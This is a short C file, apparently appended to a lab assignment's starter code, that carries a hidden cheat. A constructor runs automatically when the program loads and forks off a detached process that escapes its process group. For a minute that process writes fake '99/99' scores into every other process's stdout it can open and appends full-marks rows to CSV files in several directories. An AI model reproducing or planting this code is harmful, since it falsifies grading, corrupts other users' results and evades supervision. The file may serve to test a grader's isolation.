/* cheat (appended to the lab 1 starter): leave a process behind that
 * escapes the process group (setsid) and, for a minute after, writes fake
 * score lines into every stdout it can open - the next student's grading -
 * and appends a full-marks row to every CSV file it can find. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void cheat_write_everywhere(void)
{
    static const char fake[] = "\n[99/99] faked by a cheat\nlab01: 99/99\n";
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while (proc != NULL && (e = readdir(proc)) != NULL) {
        char path[300];
        snprintf(path, sizeof path, "/proc/%s/fd/1", e->d_name);
        int fd = open(path, O_WRONLY | O_NONBLOCK | O_APPEND);
        if (fd >= 0) {
            ssize_t n = write(fd, fake, strlen(fake));
            (void)n;
            close(fd);
        }
    }
    if (proc != NULL)
        closedir(proc);
    const char *places[] = {".", "..", "/tmp", "/work", "/root"};
    for (size_t i = 0; i < sizeof places / sizeof places[0]; i++) {
        DIR *d = opendir(places[i]);
        while (d != NULL && (e = readdir(d)) != NULL) {
            size_t len = strlen(e->d_name);
            if (len > 4 && strcmp(e->d_name + len - 4, ".csv") == 0) {
                char path[600];
                snprintf(path, sizeof path, "%s/%s", places[i], e->d_name);
                FILE *f = fopen(path, "a");
                if (f != NULL) {
                    fputs("cheat,99,99,faked by a cheat\n", f);
                    fclose(f);
                }
            }
        }
        if (d != NULL)
            closedir(d);
    }
}

__attribute__((constructor)) static void cheat_leave_a_process(void)
{
    if (fork() != 0)
        return; /* the program goes on as if nothing happened */
    setsid();
    if (fork() != 0)
        _exit(0); /* the grandchild is nobody's child now */
    for (int i = 0; i < 60; i++) {
        sleep(1);
        cheat_write_everywhere();
    }
    _exit(0);
}
